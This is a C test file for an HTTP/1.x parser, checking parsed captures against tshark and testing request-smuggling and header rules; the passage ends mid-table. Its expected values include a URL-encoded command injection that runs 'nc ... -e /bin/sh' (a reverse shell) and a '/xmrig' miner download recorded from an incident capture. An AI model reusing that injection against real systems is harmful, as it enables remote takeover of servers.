/*
 * test_http.c - formats/net/sv_http: real captures against tshark, then
 * hand-written messages for every rule (smuggling tricks, limits,
 * escaping, prefixes). Also holds the small TCP stream assembler that
 * test_stratum.c uses, and main() for both suites.
 *
 * Captures (data/SOURCES.md): each connection's payloads per direction
 * are laid out by sequence number (duplicates, retransmissions and the
 * twin copies of tcpdump -i any change nothing), then each request and
 * response header is parsed at its stream offset, skipping bodies by
 * Content-Length (HEAD, 1xx, 204 and 304 have none; chunked, Upgrade and
 * read-until-close stop that direction). A message that starts where
 * the capture lost bytes stops the direction; one whose body crosses a
 * hole does not (zeek_http_bro.org.pcap stream 2 misses relative
 * sequence 7241-14480 of the server side: tshark's "Previous segment(s)
 * not captured" at frame 179).
 *
 * Expected values: tshark 4.0.17 on this machine, for each file F
 *   tshark -o tcp.desegment_tcp_streams:FALSE -r F -Y http.request
 *     -T fields -e tcp.stream -e http.request.method -e http.request.uri
 *     -e http.host -e http.user_agent -e http.content_length
 *     -e http.upgrade
 *   tshark -o tcp.desegment_tcp_streams:FALSE -r F -Y http.response
 *     -T fields -e tcp.stream -e http.response.code
 *     -e http.content_length -e http.server -e http.transfer_encoding
 *     -e http.upgrade
 * (an empty http.content_length is -1 below), rows in tshark's frame
 * order. Without reassembly tshark shows each header at the segment it
 * starts in; with it (the default) the rows are the same except that
 * the response whose body crosses the hole above is never shown, and in
 * web-incident-bridge.pcap the /xmrig response whose body the 512-byte
 * snap length cut (stream 12) is not shown either.
 */
#include <check.h>
#include <pcap/pcap.h>
#include <stdlib.h>
#include <string.h>

#include "sv_decode.h"
#include "sv_http.h"

#define N(a) ((int)(sizeof(a) / sizeof((a)[0])))

/* ------------------------------------------ stream assembly (shared) */

/*
 * One connection, both directions laid out by sequence number from the
 * first data byte. Bytes the capture lost (a segment never seen, or cut
 * by the snap length) read as 0 with have[] 0.
 */
struct tcp_stream {
	int index;             /* tshark's tcp.stream: order of first frame */
	uint16_t cport, sport; /* client and server ports */
	uint8_t *data[2];      /* 0: client to server, 1: server to client */
	uint8_t *have[2];      /* 1 where data holds a captured byte */
	size_t len[2];
	int holes[2];          /* some byte below len is missing */
};

struct tcp_streams {
	struct tcp_stream *s;
	int n;
};

/* Shared with test_stratum.c (same declarations there). */
void streams_load(const char *name, struct tcp_streams *out);
void streams_free(struct tcp_streams *st);
size_t stream_run(const struct tcp_stream *s, int dir, size_t off);
Suite *stratum_suite(void);

#define MAX_STREAM (16u << 20)  /* a sequence jump past this is ignored */

struct seg {
	uint32_t seq;
	size_t len, claimed;   /* captured, and what the headers claim */
	uint8_t *data;
};

struct half {
	struct seg *segs;
	size_t n, cap;
	int have_isn;
	uint32_t isn;          /* sequence number of the first data byte */
};

struct conn {
	uint8_t a[16], b[16];  /* a: the client */
	uint16_t ap, bp;
	struct half h[2];      /* 0: a to b */
};

struct conns {
	struct conn *c;
	int n, cap;
};

/* Index of the connection of pk, and its direction; new when unseen. */
static int conn_of(struct conns *cs, const struct sv_packet *pk, int *dir)
{
	struct conn *c;
	int i, server_first;

	for (i = 0; i < cs->n; i++) {
		c = &cs->c[i];
		if (!memcmp(c->a, pk->src, 16) && !memcmp(c->b, pk->dst, 16) &&
		    c->ap == pk->sport && c->bp == pk->dport) {
			*dir = 0;
			return i;
		}
		if (!memcmp(c->a, pk->dst, 16) && !memcmp(c->b, pk->src, 16) &&
		    c->ap == pk->dport && c->bp == pk->sport) {
			*dir = 1;
			return i;
		}
	}
	if (cs->n == cs->cap) {
		cs->cap = cs->cap ? 2 * cs->cap : 16;
		cs->c = realloc(cs->c, (size_t)cs->cap * sizeof(*cs->c));
		ck_assert_ptr_nonnull(cs->c);
	}
	c = &cs->c[cs->n];
	memset(c, 0, sizeof(*c));
	/* The SYN's sender is the client; without a handshake, the lower
	 * port is taken for the server. */
	if (pk->tcp_flags & SV_TCP_SYN)
		server_first = (pk->tcp_flags & SV_TCP_ACK) != 0;
	else
		server_first = pk->sport < pk->dport;
	memcpy(c->a, server_first ? pk->dst : pk->src, 16);
	memcpy(c->b, server_first ? pk->src : pk->dst, 16);
	c->ap = server_first ? pk->dport : pk->sport;
	c->bp = server_first ? pk->sport : pk->dport;
	*dir = server_first;
	return cs->n++;
}

static void half_add(struct half *h, const struct sv_packet *pk)
{
	struct seg *s;

	if (pk->tcp_flags & SV_TCP_SYN) {
		h->isn = pk->seq + 1;
		h->have_isn = 1;
	}
	if (!pk->payload_len)
		return;
	if (h->n == h->cap) {
		h->cap = h->cap ? 2 * h->cap : 64;
		h->segs = realloc(h->segs, h->cap * sizeof(*h->segs));
		ck_assert_ptr_nonnull(h->segs);
	}
	s = &h->segs[h->n++];
	s->seq = pk->seq + ((pk->tcp_flags & SV_TCP_SYN) ? 1 : 0);
	s->len = pk->payload_len;
	s->claimed = pk->payload_claimed > s->len ? pk->payload_claimed
						   : s->len;
	s->data = malloc(s->len);
	ck_assert_ptr_nonnull(s->data);
	memcpy(s->data, pk->payload, s->len);
}

/*
 * Lay the segments of h at their offsets from the first data byte (the
 * SYN's, else the first segment's); the first copy of a byte wins, so
 * duplicates and retransmissions change nothing. Frees h's segments.
 */
static void half_assemble(struct half *h, struct tcp_stream *t, int dir)
{
	uint32_t base = h->have_isn ? h->isn : h->n ? h->segs[0].seq : 0;
	size_t i, k, len = 0;

	for (i = 0; i < h->n; i++) {
		size_t rel = (uint32_t)(h->segs[i].seq - base);

		if (rel < MAX_STREAM && rel + h->segs[i].claimed > len)
			len = rel + h->segs[i].claimed;
	}
	t->data[dir] = calloc(len + 1, 1);
	t->have[dir] = calloc(len + 1, 1);
	ck_assert(t->data[dir] && t->have[dir]);
	for (i = 0; i < h->n; i++) {
		const struct seg *s = &h->segs[i];
		size_t rel = (uint32_t)(s->seq - base);

		for (k = 0; rel < MAX_STREAM && k < s->len; k++) {
			if (t->have[dir][rel + k])
				continue;
			t->data[dir][rel + k] = s->data[k];
			t->have[dir][rel + k] = 1;
		}
		free(s->data);
	}
	free(h->segs);
	t->len[dir] = len;
	t->holes[dir] = stream_run(t, dir, 0) < len;
}

size_t stream_run(const struct tcp_stream *s, int dir, size_t off)
{
	size_t i = off;

	while (i < s->len[dir] && s->have[dir][i])
		i++;
	return i - off;
}

void streams_load(const char *name, struct tcp_streams *out)
{
	char path[512], err[PCAP_ERRBUF_SIZE];
	struct pcap_pkthdr *hdr;
	const u_char *data;
	struct conns cs = {NULL, 0, 0};
	struct sv_packet pk;
	pcap_t *p;
	int lt, i, dir;

	snprintf(path, sizeof(path), "%s/%s", SV_NET_DATA, name);
	p = pcap_open_offline(path, err);
	ck_assert_msg(p != NULL, "%s: %s", path, err);
	lt = pcap_datalink(p);
	while (pcap_next_ex(p, &hdr, &data) == 1) {
		ck_assert_int_eq(sv_decode(lt, data, hdr->caplen, &pk), 0);
		if (!pk.l4 || pk.proto != 6 || pk.fragment)
			continue;
		i = conn_of(&cs, &pk, &dir);
		half_add(&cs.c[i].h[dir], &pk);
	}
	pcap_close(p);
	out->s = calloc((size_t)cs.n + 1, sizeof(*out->s));
	ck_assert_ptr_nonnull(out->s);
	out->n = cs.n;
	for (i = 0; i < cs.n; i++) {
		struct tcp_stream *s = &out->s[i];

		s->index = i;
		s->cport = cs.c[i].ap;
		s->sport = cs.c[i].bp;
		for (dir = 0; dir < 2; dir++)
			half_assemble(&cs.c[i].h[dir], s, dir);
	}
	free(cs.c);
}

void streams_free(struct tcp_streams *st)
{
	int i;

	for (i = 0; i < st->n; i++) {
		free(st->s[i].data[0]);
		free(st->s[i].data[1]);
		free(st->s[i].have[0]);
		free(st->s[i].have[1]);
	}
	free(st->s);
	st->s = NULL;
	st->n = 0;
}

/* ------------------------------------------------ captures vs tshark */

struct want_req {
	int stream;
	const char *method, *uri, *host, *ua;
	int64_t cl;
	const char *upgrade;
};

struct want_resp {
	int stream, code;
	int64_t cl;
	const char *server, *te, *upgrade;
};

#define FX "Mozilla/5.0 (X11; Linux i686; rv:24.0) " \
	"Gecko/20100101 Firefox/24.0"
#define APACHE "Apache/2.4.6 (Fedora)"
#define DKUA "Docker-Client/27.3.1 (linux)"
#define DKH "192.168.122.87:2375"
#define DKSRV "Docker/20.10.17 (linux)"
#define CID "/v1.41/containers/" \
	"cc4fc8e49cadbb8bc41437dc2f9979a72293eabc3f0ea5ce48b77f43cb1f1d5e"
#define WEB "10.89.77.10", "Wget"
#define INJECT "/cgi-bin/check?host=10.89.77.10/%3B%20nc%2010.89.77.1" \
	"%204444%20-e%20/bin/sh%20%3C/dev/null%20%3E/dev/null%202%3E%261" \
	"%20%26%20%23"

#define B(u) "GET", u, "bro.org", FX, -1, ""
#define W(u) "GET", u, "www.bro.org", FX, -1, ""

static const struct want_req bro_req[] = {
	{0, B("/")}, {0, B("/css/pygments.css")}, {4, B("/css/960.css")},
	{5, B("/css/bro-ids.css")}, {1, B("/css/print.css")},
	{2, B("/js/jquery.cycle.all.min.js")},
	{3, B("/js/jquery.fancybox-1.3.4.pack.js")},
	{0, B("/js/jquery.tweet.js")}, {1, B("/js/jquery.zrssfeed.js")},
	{4, B("/js/jquery.tableofcontents.js")}, {0, B("/js/superfish.js")},
	{5, B("/js/hoverIntent.js")}, {2, B("/js/general.js")},
	{3, B("/favicon.ico")}, {2, B("/js/jquery.collapse.js")},
	{0, B("/images/bro-eyes.png")}, {3, B("/images/new.png")},
	{4, B("/images/icons/feed-icon-14x14.png")},
	{1, B("/images/logo-icsi.png")}, {5, B("/images/logo-lbl.png")},
	{2, B("/images/logo-ncsa.png")}, {1, B("/images/logo-nsf.jpg")},
	{0, B("/images/to-top.gif")},
	{2, B("/images/menu/default-submenu-sprite.png")},
	{1, B("/download/index.html")}, {1, B("/images/logo-bro.png")},
	{0, B("/js/breadcrumbs.js")}, {2, B("/images/icons/download.png")},
	{6, W("/downloads/release/binpac-0.41.tar.gz.asc")},
	{6, W("/favicon.ico")}, {7, B("/download/CHANGES.binpac.txt")},
};

#define AP(cl) 200, cl, APACHE, "", ""

static const struct want_resp bro_resp[] = {
	{0, AP(15961)}, {0, AP(2957)}, {5, AP(24765)}, {4, AP(5600)},
	{2, AP(31052)}, {1, AP(334)}, {3, AP(15669)}, {0, AP(8894)},
	{1, AP(3325)}, {4, AP(10384)}, {0, AP(3833)}, {3, AP(1150)},
	{5, AP(3257)}, {2, AP(5104)}, {2, AP(5735)}, {1, AP(5686)},
	{4, AP(689)}, {3, AP(2590)}, {0, AP(46415)}, {5, AP(4021)},
	{2, AP(10673)}, {1, AP(186859)}, {2, AP(517)}, {0, AP(172)},
	{1, AP(26270)}, {1, AP(10869)}, {0, AP(3180)}, {2, AP(716)},
	{6, AP(836)}, {6, AP(1150)}, {7, AP(3912)},
};

static const struct want_req docker_req[] = {
	{0, "HEAD", "/_ping", DKH, DKUA, -1, ""},
	{0, "POST", "/v1.41/containers/create", DKH, DKUA, 1719, ""},
	{1, "POST",
	 CID "/attach?stderr=1&stdin=1&stdout=1&stream=1", DKH, DKUA, 0, "tcp"},
	{0, "POST", CID "/wait?condition=next-exit", DKH, DKUA, 0, ""},
	{2, "POST", CID "/start", DKH, DKUA, 0, ""},
	{2, "POST", CID "/resize?h=69&w=134", DKH, DKUA, 0, ""},
};

static const struct want_resp docker_resp[] = {
	{0, 200, 0, DKSRV, "", ""},
	{0, 201, 88, DKSRV, "", ""},
	{1, 101, -1, "", "", "tcp"},
	{0, 200, -1, DKSRV, "chunked", ""},
	{2, 204, -1, DKSRV, "", ""},
	{2, 200, 0, DKSRV, "", ""},
};

static const struct want_resp xml_resp[] = {
	{0, 200, 351, "Microsoft-IIS/6.0", "", ""},
};

#define WI "GET", "/index.html", WEB, -1, ""
#define WA "GET", "/about.html", WEB, -1, ""
#define R220 200, 220, "", "", ""
#define R115 200, 115, "", "", ""

static const struct want_req web_req[] = {
	{0, WI}, {1, WI}, {2, WI}, {3, WI}, {4, WI}, {5, WA},
	{6, "GET", INJECT, WEB, -1, ""},
	{8, WI}, {9, WI}, {10, WI}, {11, WI},
	{12, "GET", "/xmrig", "10.89.77.1:8000", "Wget", -1, ""},
	{14, WI}, {15, WA}, {16, WI}, {17, WI}, {18, WI}, {19, WI},
	{20, WI}, {21, WA}, {22, WI}, {23, WI}, {24, WI}, {25, WI},
	{26, WI}, {27, WA}, {28, WI}, {29, WI}, {30, WI}, {31, WI},
	{32, WI}, {33, WA}, {34, WI}, {35, WI}, {36, WI}, {37, WI},
	{38, WI}, {39, WA}, {40, WI}, {41, WI}, {42, WI}, {43, WI},
	{44, WI}, {45, WA}, {46, WI},
};

static const struct want_resp web_resp[] = {
	{0, R220}, {1, R220}, {2, R220}, {3, R220}, {4, R220},
	{5, R115},
	{6, 200, -1, "", "", ""},
	{8, R220}, {9, R220}, {10, R220}, {11, R220},
	{12, 200, 449, "", "", ""},
	{14, R220}, {15, R115}, {16, R220}, {17, R220}, {18, R220},
	{19, R220}, {20, R220}, {21, R115}, {22, R220}, {23, R220},
	{24, R220}, {25, R220}, {26, R220}, {27, R115}, {28, R220},
	{29, R220}, {30, R220}, {31, R220}, {32, R220}, {33, R115},
	{34, R220}, {35, R220}, {36, R220}, {37, R220}, {38, R220},
	{39, R115}, {40, R220}, {41, R220}, {42, R220}, {43, R220},
	{44, R220}, {45, R115}, {46, R220},
};

struct file_case {
	const char *file;
	const struct want_req *req;
	int nreq;
	const struct want_resp *resp;
	int nresp;
};

static const struct file_case files[] = {
	{"pcap/zeek_http_bro.org.pcap", bro_req, N(bro_req),
	 bro_resp, N(bro_resp)},
	{"pcap/zeek_http_docker-http-upgrade.pcap", docker_req, N(docker_req),
	 docker_resp, N(docker_resp)},
	{"pcap/tcpdump_ipv4_tcp_http_xml.pcap", NULL, 0,
	 xml_resp, N(xml_resp)},
	{"capture/web-incident-bridge.pcap", web_req, N(web_req),
	 web_resp, N(web_resp)},
};

#define MAX_MSG 64

/* Why a walk over one direction ended. */
enum stop {
	STOP_END = 1,  /* the direction was used up exactly */
	STOP_OPEN,     /* Upgrade, chunked or until close: cannot follow */
	STOP_HOLE,     /* the next message starts in or runs into a hole */
	STOP_STATUS    /* the parser said NOT, MALFORMED or NEED_MORE */
};

/* What the walk over one connection found. */
struct walked {
	struct sv_http_request req[MAX_MSG];
	int nreq;
	enum stop req_stop;
	enum sv_app_status req_st;    /* last status */
	struct sv_http_response resp[MAX_MSG];
	int nresp;
	enum stop resp_stop;
	enum sv_app_status resp_st;
};

/* An exact-size heap copy, so ASan sees any read past n. */
static uint8_t *dup_exact(const uint8_t *d, size_t n)
{
	uint8_t *c = malloc(n ? n : 1);

	ck_assert_ptr_nonnull(c);
	if (n)
		memcpy(c, d, n);
	return c;
}

/* Request (resp 0) or response parse; the error text and header size
 * of the result through *error and *hb. */
static enum sv_app_status parse_any(int resp, const uint8_t *d, size_t n,
				    size_t *need, size_t *hb,
				    const char **error)
{
	struct sv_http_request q;
	struct sv_http_response r;
	enum sv_app_status st;

	if (resp) {
		st = sv_http_response(d, n, &r, need);
		*hb = r.header_bytes;
		*error = r.error;
	} else {
		st = sv_http_request(d, n, &q, need);
		*hb = q.header_bytes;
		*error = q.error;
	}
	return st;
}

/*
 * Every prefix shorter than the header (h bytes at d) asks for more,
 * with a need that never overshoots; exactly h bytes parse again.
 */
static void prefixes(int resp, const uint8_t *d, size_t h)
{
	const char *error;
	size_t m, need, hb;
	uint8_t *c;

	for (m = 0; m <= h; m++) {
		c = dup_exact(d, m);
		need = 0;
		ck_assert_int_eq(parse_any(resp, c, m, &need, &hb, &error),
				 m < h ? SV_APP_NEED_MORE : SV_APP_OK);
		if (m < h)
			ck_assert(need > m && need <= h);
		else
			ck_assert_uint_eq(hb, h);
		free(c);
	}
}

/* Counted here, not by the parser: does an LF lack its CR? (The CGI
 * response of web-incident stream 6 ends its header lines with a bare
 * LF: tshark -q -z follow,tcp,hex,6 shows "0a" after "text/plain".) */
static int lone_lf(const uint8_t *d, size_t n)
{
	size_t i;

	for (i = 0; i < n; i++)
		if (d[i] == '\n' && (i == 0 || d[i - 1] != '\r'))
			return 1;
	return 0;
}

/*
 * Where the walk of direction dir goes next from off: 0 to parse the
 * captured run there (*run bytes), or the reason to stop.
 */
static enum stop next_stop(const struct tcp_stream *s, int dir, size_t off,
			   size_t *run)
{
	if (off == s->len[dir])
		return STOP_END;
	if (off > s->len[dir])
		return STOP_HOLE;   /* a body the capture cut short */
	*run = stream_run(s, dir, off);
	return *run ? 0 : STOP_HOLE;
}

/* Status st at off, with run captured bytes there: why we stop. */
static enum stop status_stop(const struct tcp_stream *s, int dir,
			     size_t off, size_t run, enum sv_app_status st)
{
	if (st == SV_APP_NEED_MORE && off + run < s->len[dir])
		return STOP_HOLE;
	return STOP_STATUS;
}

static void walk_requests(const struct tcp_stream *s, struct walked *w)
{
	size_t off = 0, run = 0, need;

	while (w->nreq < MAX_MSG) {
		struct sv_http_request *q = &w->req[w->nreq];

		w->req_stop = next_stop(s, 0, off, &run);
		if (w->req_stop)
			return;
		w->req_st = sv_http_request(s->data[0] + off, run, q, &need);
		if (w->req_st != SV_APP_OK) {
			w->req_stop = status_stop(s, 0, off, run, w->req_st);
			return;
		}
		w->nreq++;
		prefixes(0, s->data[0] + off, q->header_bytes);
		ck_assert_int_eq(q->bare_lf,
				 lone_lf(s->data[0] + off, q->header_bytes));
		if (q->chunked || q->upgrade) {
			w->req_stop = STOP_OPEN;
			return;
		}
		off += q->header_bytes;
		if (q->content_length > 0)
			off += (size_t)q->content_length;
	}
}

/*
 * Body length of response r to a request with method m (RFC 9112
 * section 6.3), or -1 when the direction cannot be followed further.
 */
static int64_t response_body(const struct sv_http_response *r,
			     const char *m)
{
	if (r->status == 101)
		return -1;
	if (r->status < 200 || r->status == 204 || r->status == 304 ||
	    (m && !strcmp(m, "HEAD")))
		return 0;
	if (r->chunked || r->content_length < 0)
		return -1;
	return r->content_length;
}

static void walk_responses(const struct tcp_stream *s, struct walked *w)
{
	size_t off = 0, run = 0, need;
	int qi = 0;

	while (w->nresp < MAX_MSG) {
		struct sv_http_response *r = &w->resp[w->nresp];
		const char *m = qi < w->nreq ? w->req[qi].method : NULL;
		int64_t body;

		w->resp_stop = next_stop(s, 1, off, &run);
		if (w->resp_stop)
			return;
		w->resp_st = sv_http_response(s->data[1] + off, run, r, &need);
		if (w->resp_st != SV_APP_OK) {
			w->resp_stop = status_stop(s, 1, off, run, w->resp_st);
			return;
		}
		w->nresp++;
		prefixes(1, s->data[1] + off, r->header_bytes);
		ck_assert_int_eq(r->bare_lf,
				 lone_lf(s->data[1] + off, r->header_bytes));
		body = response_body(r, m);
		if (body < 0) {
			w->resp_stop = STOP_OPEN;
			return;
		}
		qi += r->status >= 200;   /* 1xx: the final one follows */
		off += r->header_bytes + (size_t)body;
	}
}

static void check_requests(const struct file_case *k,
			   const struct tcp_stream *s, const struct walked *w)
{
	int i, j = 0;

	for (i = 0; i < k->nreq; i++) {
		const struct want_req *x = &k->req[i];
		const struct sv_http_request *q;

		if (x->stream != s->index)
			continue;
		ck_assert_msg(j < w->nreq, "%s stream %d: request %d missing",
			      k->file, s->index, j);
		q = &w->req[j++];
		ck_assert_str_eq(q->method, x->method);
		ck_assert_str_eq(q->target, x->uri);
		ck_assert_str_eq(q->host, x->host);
		ck_assert_str_eq(q->user_agent, x->ua);
		ck_assert_int_eq(q->content_length, x->cl);
		ck_assert_str_eq(q->upgrade_to, x->upgrade);
		ck_assert_int_eq(q->upgrade, x->upgrade[0] != '\0');
		ck_assert_int_eq(q->version_minor, 1);
		ck_assert(!q->target_cut && !q->error);
	}
	ck_assert_msg(j == w->nreq, "%s stream %d: %d requests, tshark %d",
		      k->file, s->index, w->nreq, j);
}

static void check_responses(const struct file_case *k,
			    const struct tcp_stream *s,
			    const struct walked *w)
{
	int i, j = 0;

	for (i = 0; i < k->nresp; i++) {
		const struct want_resp *x = &k->resp[i];
		const struct sv_http_response *r;

		if (x->stream != s->index)
			continue;
		ck_assert_msg(j < w->nresp, "%s stream %d: response %d missing",
			      k->file, s->index, j);
		r = &w->resp[j++];
		ck_assert_int_eq(r->status, x->code);
		ck_assert_int_eq(r->content_length, x->cl);
		ck_assert_str_eq(r->server, x->server);
		ck_assert_int_eq(r->chunked, !strcmp(x->te, "chunked"));
		ck_assert_str_eq(r->upgrade_to, x->upgrade);
		ck_assert_int_eq(r->version_minor, 1);
		ck_assert(!r->error);
	}
	ck_assert_msg(j == w->nresp, "%s stream %d: %d responses, tshark %d",
		      k->file, s->index, w->nresp, j);
}

/*
 * Where each walk stopped must be explained: the parser may only refuse
 * a direction tshark finds no HTTP in, and then at its first bytes
 * (NOT); every other walk ends where the framing or the capture says.
 */
static void check_stop(const struct file_case *k, const struct tcp_stream *s,
		       int n, enum stop why, enum sv_app_status st)
{
	if (why != STOP_STATUS)
		return;
	ck_assert_msg(n == 0 && st == SV_APP_NOT,
		      "%s stream %d: stopped on status %d after %d messages",
		      k->file, s->index, st, n);
}

START_TEST(capture_vs_tshark)
{
	const struct file_case *k = &files[_i];
	struct tcp_streams st;
	struct walked *w = malloc(sizeof(*w));
	int i, nreq = 0, nresp = 0;

	ck_assert_ptr_nonnull(w);
	streams_load(k->file, &st);
	ck_assert_int_gt(st.n, 0);
	for (i = 0; i < st.n; i++) {
		memset(w, 0, sizeof(*w));
		walk_requests(&st.s[i], w);
		walk_responses(&st.s[i], w);
		check_requests(k, &st.s[i], w);
		check_responses(k, &st.s[i], w);
		check_stop(k, &st.s[i], w->nreq, w->req_stop, w->req_st);
		check_stop(k, &st.s[i], w->nresp, w->resp_stop, w->resp_st);
		nreq += w->nreq;
		nresp += w->nresp;
	}
	/* Each stream matched its rows, so the totals catch rows of a
	 * stream index we never had. */
	ck_assert_int_eq(nreq, k->nreq);
	ck_assert_int_eq(nresp, k->nresp);
	streams_free(&st);
	free(w);
}
END_TEST

/* ------------------------------------------- hand-written messages */

#define Q(s) s, sizeof(s) - 1

struct msg_case {
	const char *in;
	size_t len;
	enum sv_app_status st;
	const char *error;   /* substring of out.error; NULL: none */
};

/* Requests: each line is a rule of RFC 9112 / RFC 9110. */
static const struct msg_case reqs[] = {
	{Q("GET / HTTP/1.1\r\nHost: a\r\n\r\n"), SV_APP_OK, NULL},
	{Q("GET / HTTP/1.0\n\n"), SV_APP_OK, NULL},           /* bare LF */
	{Q("\r\n\r\nGET / HTTP/1.0\r\n\r\n"), SV_APP_OK, NULL},
	{Q("\r\n\r\n\r\nGET / HTTP/1.0\r\n\r\n"), SV_APP_NOT, NULL},
	{Q(""), SV_APP_NEED_MORE, NULL},
	{Q("PROPF"), SV_APP_NEED_MORE, NULL},
	{Q("\r"), SV_APP_NEED_MORE, NULL},
	{Q("GET / HTTP/1.1\r\nHost: a\r\n"), SV_APP_NEED_MORE, NULL},
	{Q("GET / HTTP/1.1\r\nHost: a\r\n\r"), SV_APP_NEED_MORE, NULL},
	{Q("get / HTTP/1.1\r\n\r\n"), SV_APP_NOT, NULL},      /* case */
	{Q("GETS / HTTP/1.1\r\n\r\n"), SV_APP_NOT, NULL},
	{Q("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), SV_APP_NOT, NULL},
	{Q("\x16\x03\x01\x02\x00\x01"), SV_APP_NOT, NULL},   /* TLS */
	{Q("SSH-2.0-OpenSSH_9.2\r\n"), SV_APP_NOT, NULL},
	{Q("GET  / HTTP/1.1\r\nHost: a\r\n\r\n"), SV_APP_MALFORMED,
	 "request-target"},
	{Q("GET /a b HTTP/1.1\r\nHost: a\r\n\r\n"), SV_APP_MALFORMED,
	 "request-target"},
	{Q("GET /\x01 HTTP/1.1\r\nHost: a\r\n\r\n"), SV_APP_MALFORMED,
	 "request-target"},
	{Q("GET /\r\n\r\n"), SV_APP_MALFORMED, "without an HTTP version"},
	{Q("GET / HTTP/2.0\r\n\r\n"), SV_APP_MALFORMED, "not HTTP/1.x"},
	{Q("GET / http/1.1\r\n\r\n"), SV_APP_MALFORMED, "not HTTP/1.x"},
	{Q("GET / HTTP/1.1 \r\n\r\n"), SV_APP_MALFORMED, "not HTTP/1.x"},
	{Q("GET / HTTP/1.1\r\nHost: a\r\nX: 1\r\n 2\r\n\r\n"),
	 SV_APP_MALFORMED, "obs-fold"},
	{Q("GET / HTTP/1.1\r\n\tHost: a\r\n\r\n"), SV_APP_MALFORMED,
	 "obs-fold"},
	{Q("GET / HTTP/1.1\r\nHost: a\r\nX: a\0b\r\n\r\n"), SV_APP_MALFORMED,
	 "NUL"},
	{Q("GET / HTTP/1.1\r\nHost: a\r\nX: a\rb\r\n\r\n"), SV_APP_MALFORMED,
	 "control"},
	{Q("GET / HTTP/1.1\r\nHost : a\r\n\r\n"), SV_APP_MALFORMED,
	 "header name"},
	{Q("GET / HTTP/1.1\r\nHost a\r\n\r\n"), SV_APP_MALFORMED,
	 "no colon"},
	{Q("GET / HTTP/1.1\r\n: a\r\n\r\n"), SV_APP_MALFORMED, "header name"},
	{Q("GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n"
	   "Content-Length: 6\r\n\r\n"), SV_APP_MALFORMED, "disagree"},
	{Q("GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n"
	   "content-length: 5\r\n\r\n"), SV_APP_OK, NULL},
	{Q("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n"
	   "Transfer-Encoding: chunked\r\n\r\n"), SV_APP_MALFORMED,
	 "both Content-Length and Transfer-Encoding"},
	{Q("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip\r\n\r\n"),
	 SV_APP_MALFORMED, "not ending in chunked"},
	{Q("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n"
	   "Transfer-Encoding: gzip\r\n\r\n"), SV_APP_MALFORMED,
	 "not ending in chunked"},
	{Q("POST / HTTP/1.1\r\nHost: a\r\n"
	   "Transfer-Encoding: chunked, chunked\r\n\r\n"), SV_APP_MALFORMED,
	 "twice"},
	{Q("POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n"),
	 SV_APP_MALFORMED, "HTTP/1.0"},
	{Q("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: +5\r\n\r\n"),
	 SV_APP_MALFORMED, "invalid Content-Length"},
	{Q("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n"),
	 SV_APP_MALFORMED, "invalid Content-Length"},
	{Q("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5, 5\r\n\r\n"),
	 SV_APP_MALFORMED, "invalid Content-Length"},
	{Q("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0x10\r\n\r\n"),
	 SV_APP_MALFORMED, "invalid Content-Length"},
	{Q("POST / HTTP/1.1\r\nHost: a\r\n"
	   "Content-Length: 9223372036854775808\r\n\r\n"),
	 SV_APP_MALFORMED, "invalid Content-Length"},
	{Q("POST / HTTP/1.1\r\nHost: a\r\nContent-Length:\r\n\r\n"),
	 SV_APP_MALFORMED, "invalid Content-Length"},
	{Q("GET / HTTP/1.1\r\n\r\n"), SV_APP_MALFORMED, "without Host"},
	{Q("GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"), SV_APP_MALFORMED,
	 "more than one Host"},
	{Q("GET / HTTP/1.0\r\n\r\n"), SV_APP_OK, NULL},
};

/* Case k of a table: status, error text, need, header size. */
static void rule(int resp, const struct msg_case *k, int i)
{
	uint8_t *c = dup_exact((const uint8_t *)k->in, k->len);
	const char *error;
	size_t need = 0, hb;
	enum sv_app_status st = parse_any(resp, c, k->len, &need, &hb, &error);

	ck_assert_msg(st == k->st, "case %d: status %d, want %d (%s)", i,
		      st, k->st, error ? error : "-");
	if (k->error)
		ck_assert_msg(error && strstr(error, k->error),
			      "case %d: error \"%s\"", i,
			      error ? error : "(none)");
	else
		ck_assert_ptr_null(error);
	if (st == SV_APP_NEED_MORE)
		ck_assert_uint_eq(need, k->len + 1);
	if (st == SV_APP_OK)
		ck_assert_uint_eq(hb, k->len);
	free(c);
}

START_TEST(request_rules)
{
	rule(0, &reqs[_i], _i);
}
END_TEST

static const struct msg_case resps[] = {
	{Q("HTTP/1.1 200 OK\r\n\r\n"), SV_APP_OK, NULL},
	{Q("HTTP/1.1 204\r\n\r\n"), SV_APP_OK, NULL},
	{Q("HTTP/1.0 200 OK\n\n"), SV_APP_OK, NULL},
	{Q("HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip\r\n\r\n"), SV_APP_OK,
	 NULL},
	{Q("HTT"), SV_APP_NEED_MORE, NULL},
	{Q(""), SV_APP_NEED_MORE, NULL},
	{Q("HTTP/1.1 200 OK\r\n"), SV_APP_NEED_MORE, NULL},
	{Q("HTTX/1.1 200 OK\r\n\r\n"), SV_APP_NOT, NULL},
	{Q("http/1.1 200 OK\r\n\r\n"), SV_APP_NOT, NULL},
	{Q("GET / HTTP/1.1\r\n\r\n"), SV_APP_NOT, NULL},
	{Q("HTTP/2 200\r\n\r\n"), SV_APP_MALFORMED, "not HTTP/1.x"},
	{Q("HTTP/1.1 2x0 OK\r\n\r\n"), SV_APP_MALFORMED, "three digits"},
	{Q("HTTP/1.1 20 OK\r\n\r\n"), SV_APP_MALFORMED, "bad status line"},
	{Q("HTTP/1.1 2000 OK\r\n\r\n"), SV_APP_MALFORMED, "bad status line"},
	{Q("HTTP/1.1  200 OK\r\n\r\n"), SV_APP_MALFORMED, "bad status line"},
	{Q("HTTP/1.1 099 X\r\n\r\n"), SV_APP_MALFORMED, "100..599"},
	{Q("HTTP/1.1 600 X\r\n\r\n"), SV_APP_MALFORMED, "100..599"},
	{Q("HTTP/1.1 200 O\x01K\r\n\r\n"), SV_APP_MALFORMED, "reason"},
